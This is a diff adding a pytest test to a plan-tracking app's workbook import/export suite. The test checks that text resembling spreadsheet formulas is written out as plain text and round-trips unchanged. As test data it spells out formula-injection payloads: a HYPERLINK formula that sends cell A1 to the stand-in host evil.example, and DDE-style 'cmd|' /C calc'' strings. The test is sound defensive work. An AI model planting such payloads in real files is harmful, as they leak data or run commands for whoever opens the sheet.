@@ -3,7 +3,7 @@ change with re-baselines, prune, and a round trip that changes nothing."""
 
 from __future__ import annotations
 
-from datetime import date, datetime
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
@@ -207,3 +207,44 @@ def test_round_trip_changes_nothing(engine: Engine, tmp_path: Path) -> None:
     outcome = import_workbook(engine, exported, actor="x")
     assert outcome.report.changes == 0 and not outcome.report.rebaselined
     assert _head(engine) == head
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_and_round_trips(
+    engine: Engine, tmp_path: Path
+) -> None:
+    import openpyxl
+
+    from models.db import unit_of_work
+    from models.plan_spec import UpdateSpec
+    from models.updates import apply_update
+
+    sheets = template_rows(tmp_path)
+    sheets["Actions"][1][column(sheets["Actions"], "title")] = FORMULA
+    sheets["Actions"][1][column(sheets["Actions"], "notes")] = "+cmd|' /C calc'!A0"
+    import_workbook(engine, write_csv_folder(tmp_path / "plan", sheets), actor="x")  # CSV: text is text
+    with unit_of_work(engine) as session:
+        apply_update(
+            session,
+            UpdateSpec(
+                "TAP-01",
+                by="owner@example.org",
+                note="@SUM(1+1)*cmd|' /C calc'!A0",
+                at=datetime(2017, 9, 20, 9, tzinfo=UTC),
+            ),
+        )
+    exported = tmp_path / "export.xlsx"
+    export_workbook(engine, exported, None)
+    book = openpyxl.load_workbook(exported)  # not data_only: a formula would come back as a formula
+    title = book["Actions"].cell(2, column(sheets["Actions"], "title") + 1)
+    assert (title.value, title.data_type) == (FORMULA, "s")
+    commentary = book["Updates"].cell(2, 7)
+    assert (commentary.value, commentary.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
+    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    outcome = import_workbook(engine, exported, actor="x")
+    assert outcome.report.changes == 0
+    with Session(engine) as session:
+        action = session.exec(select(Action)).one()
+    assert (action.title, action.notes) == (FORMULA, "+cmd|' /C calc'!A0")
